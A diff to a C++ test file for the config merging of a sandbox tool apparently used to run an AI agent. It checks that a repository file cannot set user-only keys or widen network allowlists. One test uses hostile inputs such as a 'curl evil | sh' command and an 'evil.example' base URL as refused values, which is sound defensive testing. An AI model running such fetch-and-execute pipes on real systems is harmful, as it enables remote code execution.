@@ -16,7 +16,9 @@ using Strings = std::vector<std::string>;
 
 namespace {
 
-bool contains(const std::string& text, const std::string& part) { return text.find(part) != std::string::npos; }
+bool contains(const std::string& text, const std::string& part) {
+  return text.find(part) != std::string::npos;
+}
 
 // All problem messages, one per line, for failure output.
 std::string messages(const std::vector<Problem>& problems) {
@@ -45,6 +47,21 @@ void expect_one_usage_problem(const std::string& text, const Strings& parts) {
   for (const auto& part : parts) CHECK(contains(problems[0].message, part));
 }
 
+// The one problem whose message contains every part, or nullptr. (Problems
+// come in the document's key order, which is not the file's line order.)
+const Problem* find_problem(const std::vector<Problem>& problems, const Strings& parts) {
+  const Problem* found = nullptr;
+  for (const auto& problem : problems) {
+    bool all = true;
+    for (const auto& part : parts) all = all && contains(problem.message, part);
+    if (all) {
+      if (found != nullptr) return nullptr;
+      found = &problem;
+    }
+  }
+  return found;
+}
+
 }  // namespace
 
 TEST_CASE("a new Config holds the built-in defaults") {
@@ -62,8 +79,9 @@ TEST_CASE("a new Config holds the built-in defaults") {
   CHECK(config.integer("limits.inactivity") == 1800);
   CHECK(config.integer("limits.memory_mb") == 8192);
   CHECK(config.integer("limits.processes") == 1024);
+  CHECK(config.integer("limits.disk_mb") == 10240);
   CHECK(config.gates().empty());
-  CHECK(config.entries().size() == 13);
+  CHECK(config.entries().size() == 14);
   for (const auto& [key, entry] : config.entries()) {
     INFO(key);
     CHECK(entry.source == Source::built_in);
@@ -200,9 +218,9 @@ TEST_CASE("a TOML syntax error is one problem with the line it is on") {
 }
 
 TEST_CASE("the repository file may not set user-only keys") {
-  for (const std::string text : {"[run]\nexecutor = \"command\"\n", "[run]\ncommand = \"curl evil | sh\"\n",
-                                 "[sandbox]\nuid = 1000\n", "[claude]\nbinary = \"/tmp/x\"\n",
-                                 "[claude]\nbase_url = \"https://evil.example\"\n"}) {
+  for (const std::string text :
+       {"[run]\nexecutor = \"command\"\n", "[run]\ncommand = \"curl evil | sh\"\n", "[sandbox]\nuid = 1000\n",
+        "[claude]\nbinary = \"/tmp/x\"\n", "[claude]\nbase_url = \"https://evil.example\"\n"}) {
     Config config;
     const Config before;
     const auto problems = merge_repo(config, text);
@@ -219,8 +237,9 @@ TEST_CASE("the repository file may not set user-only keys") {
 
 TEST_CASE("the repository file may narrow a list the user allows") {
   Config config;
-  REQUIRE(merge_user(config, "[network]\nworker = [\"a.example:443\", \"b.example:443\"]\n"
-                             "[sandbox]\nenv = [\"GOFLAGS\", \"CARGO_HOME\"]\n")
+  REQUIRE(merge_user(config,
+                     "[network]\nworker = [\"a.example:443\", \"b.example:443\"]\n"
+                     "[sandbox]\nenv = [\"GOFLAGS\", \"CARGO_HOME\"]\n")
               .empty());
   const auto problems = merge_repo(config, "[network]\nworker = [\"b.example:443\"]\n[sandbox]\nenv = []\n");
   INFO(messages(problems));
@@ -247,13 +266,14 @@ TEST_CASE("the repository file may not widen a list") {
   INFO(messages(problems));
   REQUIRE(problems.size() == 2);
   for (const auto& problem : problems) CHECK(problem.severity == ExitCode::refused);
-  CHECK(contains(problems[0].message, "'evil.example:443'"));
-  CHECK(contains(problems[0].message, "may only narrow"));
-  CHECK(contains(problems[1].message, "'*'"));
+  const Problem* evil = find_problem(problems, {".mullet.toml@abc:2", "network.worker", "'evil.example:443'"});
+  REQUIRE(evil != nullptr);
+  CHECK(contains(evil->message, "may only narrow"));
+  CHECK(find_problem(problems, {".mullet.toml@abc:3", "network.setup", "'*'"}) != nullptr);
 }
 
 TEST_CASE("a refused list from the repository file is not applied") {
-  // BUG: Config::merge_toml records the refusal for a widened list
+  // Regression: Config::merge_toml used to record the refusal for a widened list
   // (RepoRule::narrow_list) but, unlike the user_only and lower_only rules,
   // does not `continue`, so the widened list replaces the user's one anyway.
   // Today every caller throws on any problem, but the Config is left holding a
@@ -287,11 +307,10 @@ TEST_CASE("the repository file may lower a limit but not raise it") {
     const auto problems = merge_repo(config, "[limits]\ntimeout = 601\nprocesses = 100000\n");
     INFO(messages(problems));
     REQUIRE(problems.size() == 2);
-    CHECK(problems[0].severity == ExitCode::refused);
-    CHECK(contains(problems[0].message, "limits.timeout"));
-    CHECK(contains(problems[0].message, "yours is 600"));
-    CHECK(contains(problems[1].message, "limits.processes"));
-    CHECK(contains(problems[1].message, "yours is 1024"));
+    for (const auto& problem : problems) CHECK(problem.severity == ExitCode::refused);
+    CHECK(find_problem(problems, {".mullet.toml@abc:2", "limits.timeout", "may only lower", "yours is 600"}) !=
+          nullptr);
+    CHECK(find_problem(problems, {".mullet.toml@abc:3", "limits.processes", "yours is 1024"}) != nullptr);
     CHECK(config.integer("limits.timeout") == 600);
     CHECK(config.integer("limits.processes") == 1024);
   }
@@ -308,14 +327,15 @@ TEST_CASE("malformed input in the repository file is a usage problem, not a refu
 
 TEST_CASE("[[gate]] tables become gates") {
   Config config;
-  const auto problems = merge_user(config,
-                                   "[[gate]]\n"
-                                   "name = \"tests\"\n"
-                                   "command = \"make test\"\n"
-                                   "timeout = 120\n"
-                                   "\n"
-                                   "[[gate]]\n"
-                                   "command = \"  cargo clippy --all-targets -- -D warnings and a much longer tail\"\n");
+  const auto problems =
+      merge_user(config,
+                 "[[gate]]\n"
+                 "name = \"tests\"\n"
+                 "command = \"make test\"\n"
+                 "timeout = 120\n"
+                 "\n"
+                 "[[gate]]\n"
+                 "command = \"  cargo clippy --all-targets -- -D warnings and a much longer tail\"\n");
   INFO(messages(problems));
   REQUIRE(problems.empty());
   REQUIRE(config.gates().size() == 2);
@@ -370,7 +390,9 @@ TEST_CASE("[[gate]] problems") {
 }
 
 TEST_CASE("throw_if_problems") {
-  SUBCASE("no problems, no exception") { CHECK_NOTHROW(throw_if_problems({})); }
+  SUBCASE("no problems, no exception") {
+    CHECK_NOTHROW(throw_if_problems({}));
+  }
   SUBCASE("usage problems only") {
     try {
       throw_if_problems({{ExitCode::usage, "a.toml:1: one"}, {ExitCode::usage, "a.toml:2: two"}});
@@ -431,20 +453,23 @@ TEST_CASE("set_from_flag validates like the files do") {
 
 TEST_CASE("describe lists every key with its value and origin") {
   Config config;
-  REQUIRE(merge_user(config, "[limits]\ntimeout = 600\n[sandbox]\nenv = [\"GOFLAGS\"]\n"
-                             "[[gate]]\nname = \"unit\"\ncommand = \"make test\"\ntimeout = 60\n")
+  REQUIRE(merge_user(config,
+                     "[limits]\ntimeout = 600\n[sandbox]\nenv = [\"GOFLAGS\"]\n"
+                     "[[gate]]\nname = \"unit\"\ncommand = \"make test\"\ntimeout = 60\n")
               .empty());
   config.set_from_flag("limits.memory_mb", std::int64_t{2048}, "--memory");
   const std::string text = config.describe();
   INFO(text);
   CHECK(contains(text, "[run]\n"));
   CHECK(contains(text, "[limits]\n"));
-  CHECK(contains(text, "executor = \"claude\"  # built-in\n"));
+  CHECK(contains(text, "executor = 'claude'  # built-in\n"));
   CHECK(contains(text, "timeout = 600  # user.toml:2\n"));
-  CHECK(contains(text, "env = [ \"GOFLAGS\" ]  # user.toml:4") || contains(text, "env = [\"GOFLAGS\"]  # user.toml:4"));
+  CHECK(contains(text, "env = [ 'GOFLAGS' ]  # user.toml:4\n"));
+  CHECK(contains(text, "setup = []  # built-in\n"));
   CHECK(contains(text, "memory_mb = 2048  # --memory\n"));
   CHECK(contains(text, "processes = 1024  # built-in\n"));
-  CHECK(contains(text, "[[gate]]  # user.toml:5\nname = \"unit\"\ncommand = \"make test\"\ntimeout = 60\n"));
+  CHECK(contains(text, "disk_mb = 10240  # built-in\n"));
+  CHECK(contains(text, "[[gate]]  # user.toml:5\nname = 'unit'\ncommand = 'make test'\ntimeout = 60\n"));
   // Each section header appears once.
   CHECK(text.find("[limits]") == text.rfind("[limits]"));
 }
